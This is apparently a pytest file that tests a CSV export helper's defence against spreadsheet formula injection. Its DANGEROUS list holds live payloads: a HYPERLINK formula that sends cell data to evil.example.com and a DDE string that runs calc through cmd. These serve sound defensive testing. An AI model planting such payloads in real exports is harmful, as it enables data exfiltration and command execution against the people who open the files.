"""CSV formula injection (issue 19 item 10): the one export helper every CSV download goes through."""

import csv
import io

import pandas as pd
import pytest

from core.export import csv_cell, frame_to_csv, original_text, rows_to_csv

DANGEROUS = [
    '=HYPERLINK("https://evil.example.com/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_a_spreadsheet_would_evaluate_is_neutralised_and_reversible(text: str):
    cell = csv_cell(text)
    assert cell == "'" + text
    assert original_text(cell) == text


@pytest.mark.parametrize("value", ["peak traffic", "", "'quoted", 42, -5, 1.5, None])
def test_harmless_values_keep_their_meaning(value):
    cell = csv_cell(value)
    if isinstance(value, str) and value.startswith("'"):
        assert cell == "''quoted" and original_text(cell) == value  # reversible: one quote added
    else:
        assert cell == value


def test_a_table_export_neutralises_every_text_cell_and_keeps_numbers():
    frame = pd.DataFrame({"id": [1, -2], "reason": [DANGEROUS[0], "fine"], "delta": [-3.5, 2.0]})
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame))))
    assert rows[0] == ["id", "reason", "delta"]
    assert rows[1] == ["1", "'" + DANGEROUS[0], "-3.5"]
    assert rows[2] == ["-2", "fine", "2.0"]


def test_row_exports_neutralise_text_and_write_none_as_empty():
    text = rows_to_csv(["seq", "reason"], [(1, "@evil"), (2, None)])
    assert list(csv.reader(io.StringIO(text))) == [["seq", "reason"], ["1", "'@evil"], ["2", ""]]


def test_the_weekly_reviews_zip_of_tables_neutralises_action_reasons():
    import zipfile

    from core.report import Week, export_zip
    from core.report.types import Section, WeeklyReport

    actions = pd.DataFrame({"id": [1], "reason": ['=HYPERLINK("https://evil.example.com")']})
    report = WeeklyReport(
        Week.parse("2026-W47"), [Section("actions", "Actions", tables={"actions": actions})]
    )
    with zipfile.ZipFile(io.BytesIO(export_zip(report))) as zf:
        text = zf.read("2026-W47/actions__actions.csv").decode()
    assert list(csv.reader(io.StringIO(text)))[1] == ["1", '\'=HYPERLINK("https://evil.example.com")']
